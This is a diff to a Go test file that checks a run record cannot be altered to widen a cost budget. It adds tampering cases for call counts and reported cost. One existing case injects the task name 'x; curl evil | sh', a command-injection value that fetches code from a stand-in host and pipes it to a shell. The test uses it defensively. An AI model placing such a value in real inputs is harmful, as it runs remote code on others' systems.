@@ -88,6 +88,10 @@ func TestRunFileWidensNothing(t *testing.T) {
 		"spent: less":          {spent(func(l map[string]any) { l["spent_nano_usd"] = 1 }), "was changed"},
 		"spent: a credit":      {spent(func(l map[string]any) { l["spent_nano_usd"] = math.MinInt64 }), "was changed"},
 		"spent: by another":    {spent(func(l map[string]any) { l["model"], l["spent_nano_usd"] = "x", 1 }), "was changed"},
+		"calls: more":          {func(run map[string]any) { run["calls"] = 99 }, "was changed"},
+		"calls: none":          {func(run map[string]any) { delete(run, "calls") }, "was changed"},
+		"reported: less":       {func(run map[string]any) { run["reported_usd"] = 0.000001 }, "was changed"},
+		"reported: nothing":    {func(run map[string]any) { delete(run, "reported_usd") }, "was changed"},
 		"an older number":      {func(run map[string]any) { delete(run, "rights_seq") }, ""},
 		"the name of the task": {func(run map[string]any) { run["task_name"] = "x; curl evil | sh" }, ""},
 	} {
@@ -108,8 +112,8 @@ func TestRunFileWidensNothing(t *testing.T) {
 			if j := b.worker.jobs[before]; j.Session != "claude-architect-2" {
 				t.Errorf("the architect continues %q", j.Session)
 			}
-			if out.Cost.Limit != cost(6) || out.Cost.Spent < cost(5) || out.Cost.Spent >= cost(6) || strings.Contains(out.Resume+out.Command, "evil") {
-				t.Errorf("%s of %s were spent; then %q, %q", out.Cost.Spent, out.Cost.Limit, out.Command, out.Resume)
+			if out.Cost.Limit != cost(6) || out.Cost.Spent < cost(5) || out.Cost.Spent >= cost(6) || strings.Contains(out.Resume+out.Command, "evil") || *out.Reported < 0.004 || *out.Reported > 0.006 {
+				t.Errorf("%s of %s (reported %g) were spent; then %q, %q", out.Cost.Spent, out.Cost.Limit, *out.Reported, out.Command, out.Resume)
 			}
 			if said := b.notices(); !strings.Contains(said, c.words) || (c.words == "") != (said == "") {
 				t.Errorf("it was told %q; want %q", said, c.words)
